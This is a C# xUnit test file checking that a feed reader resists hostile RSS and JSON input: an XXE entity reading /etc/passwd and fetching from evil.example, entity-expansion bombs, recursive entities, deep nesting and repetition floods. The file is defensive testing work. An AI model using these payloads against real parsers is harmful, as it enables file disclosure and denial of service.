using System.Text;
using Xunit;

namespace AlertBot.Tests.Feeds.Reading;

public sealed class HostileDocumentTests
{
    private const string Start = "<rss version='2.0'><channel><title>N</title><item><title>T</title>";

    // Far more than a busy host needs; whoever looks at characters again and again needs longer still.
    private static readonly TimeSpan Patience = TimeSpan.FromMinutes(1);

    [Fact]
    public void An_external_entity_stands_for_nothing()
    {
        var read = Reads.Any(
            "<!DOCTYPE rss [<!ENTITY x SYSTEM 'file:///etc/passwd'><!ENTITY % p SYSTEM 'http://evil.example/p'> %p;]>" +
            "<rss version='2.0'><channel><title>a&x;b</title></channel></rss>");

        Assert.Equal("ab", Reads.Document(read).Title);
        Assert.Contains("external-entity", read.Warnings);
    }

    [Theory]
    [InlineData(10, 10)]
    [InlineData(2, 40)]
    public void An_entity_bomb_does_not_go_off(int copies, int levels)
    {
        var bomb = new StringBuilder("<!DOCTYPE rss [<!ENTITY e0 'lol'>");
        for (var level = 1; level <= levels; level++)
        {
            var inner = string.Concat(Enumerable.Repeat($"&e{level - 1};", copies));
            bomb.Append(null, $"<!ENTITY e{level} '{inner}'>");
        }
        var references = string.Concat(Enumerable.Repeat($"&e{levels};&e2;", 10_000));
        bomb.Append(null, $"]>{Start}<description>{references}</description></item></channel></rss>");

        var read = Reads.Any(bomb.ToString());

        Assert.InRange(Reads.Document(read).Entries[0].Summary?.Length ?? 0, 0, 50_000);
        Assert.Contains("entity-limit", read.Warnings);
    }

    [Fact]
    public void An_entity_that_names_itself_ends()
    {
        var read = Reads.Any("<!DOCTYPE rss [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>" + Start + "<link>&a;</link>");

        Assert.Equal("T", Reads.Document(read).Entries[0].Title);
    }

    [Theory]
    [InlineData("<x>", "</x>")]
    [InlineData("<channel>", "</channel>")]
    [InlineData("<description>", "</description>")]
    [InlineData("<author>", "</author>")]
    [InlineData("<div xmlns:a='b' xml:base='c' xml:lang='d'>", "</div>")]
    public void A_hundred_thousand_nested_elements_are_answered(string open, string close)
    {
        const int Levels = 100_000;
        var body = Start + string.Concat(Enumerable.Repeat(open, Levels)) + "x"
            + string.Concat(Enumerable.Repeat(close, Levels)) + "</item><item><title>Z</title></item></channel></rss>";

        var document = Timely(() => Reads.Document(body));

        Assert.Equal("T", document.Entries[0].Title);
        Assert.Equal("Z", document.Entries[^1].Title);
    }

    [Fact]
    public void Ten_thousand_nested_items_are_items_each()
    {
        var document = Timely(() => Reads.Document(Start + string.Concat(Enumerable.Repeat("<item>", 10_000))));

        Assert.Equal(10_001, document.Entries.Count);
    }

    [Fact]
    public void Nested_json_is_answered()
    {
        var deep = new string('[', 100_000) + new string(']', 100_000);
        var body = $$"""{"version":"https://jsonfeed.org/version/1.1","_x":{{deep}},"items":[{"id":"1","_y":{{deep}}},{"id":"2"}]}""";

        Assert.Equal(2, Timely(() => Reads.Document(body)).Entries.Count);
    }

    [Theory]
    [InlineData("<!--")]
    [InlineData("<![CDATA[")]
    [InlineData("<a b=\"")]
    [InlineData("<a b='\">")]
    [InlineData("</y>")]
    [InlineData("<b ")]
    [InlineData("&lt;b ")]
    [InlineData("&amp;")]
    [InlineData("<category>a</category>")]
    [InlineData("<name>")]
    [InlineData("<q>&lt;")]
    [InlineData("<!DOCTYPE [")]
    [InlineData("<!DOCTYPE [>")]
    [InlineData("<![IGNORE[")]
    [InlineData("<title>a")]
    [InlineData("<enclosure url='/a'/>")]
    [InlineData("<item/>")]
    public void What_repeats_a_hundred_thousand_times_takes_no_longer_than_its_length(string piece)
    {
        var many = string.Concat(Enumerable.Repeat(piece, 100_000));

        Timely(() => Reads.Document(Start + many));
        Timely(() => Reads.Document(Start + "<author>" + many));
        Timely(() => Reads.Document(Start + "<description>" + many));
    }

    [Fact]
    public void A_long_base_is_not_written_out_before_addresses_without_end()
    {
        const int Items = 3_000;
        var baseAddress = "http://a.example/" + new string('b', 7_900) + "/";
        var items = string.Concat(Enumerable.Repeat("<item><link>1</link><enclosure url='2'/></item>", Items));

        var read = Reads.Any($"<rss version='2.0' xml:base='{baseAddress}'><channel>{items}</channel></rss>");

        var entries = Reads.Document(read).Entries;
        Assert.Equal((Items, baseAddress + "1"), (entries.Count, entries[0].Link));
        Assert.InRange(entries.Sum(e => (e.Link?.Length ?? 0) + e.Enclosures.Sum(file => file.Url.Length)), 1, 20_000_000);
        Assert.Contains("text-cut", read.Warnings);
    }

    [Fact]
    public void A_language_that_every_entry_would_show_is_no_longer_than_languages_are()
    {
        var body = $"<rss version='2.0' xml:lang='{new string('x', 100_000)}'><channel><title>N</title>"
            + string.Concat(Enumerable.Repeat("<item/>", 1_000)) + "</channel></rss>";

        var document = Reads.Document(body);

        Assert.Null(document.Language);
        Assert.All(document.Entries, entry => Assert.Null(entry.Language));
    }

    [Theory]
    [InlineData(new byte[] { 0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13 })]
    [InlineData(new byte[] { 0x1F, 0x8B, 0x08, 0, 0, 0, 0, 0, 0, 3, (byte)'<', (byte)'r' })]
    [InlineData(new byte[] { 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0 })]
    [InlineData(new byte[] { 0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0 })]
    [InlineData(new byte[] { 0xFF, 0xFE })]
    [InlineData(new byte[] { 0xFF, 0xFE, 0x00 })]
    [InlineData(new byte[] { 0xEF, 0xBB })]
    [InlineData(new byte[] { (byte)'<' })]
    public void Bytes_that_are_no_text_are_refused(byte[] body)
    {
        Assert.Contains(Reads.Failure(Reads.Any(body)).Code, new[] { "not-a-feed", "empty" });
    }

    private static T Timely<T>(Func<T> work)
    {
        var start = TimeProvider.System.GetTimestamp();
        var result = work();
        Assert.InRange(TimeProvider.System.GetElapsedTime(start), TimeSpan.Zero, Patience);
        return result;
    }
}
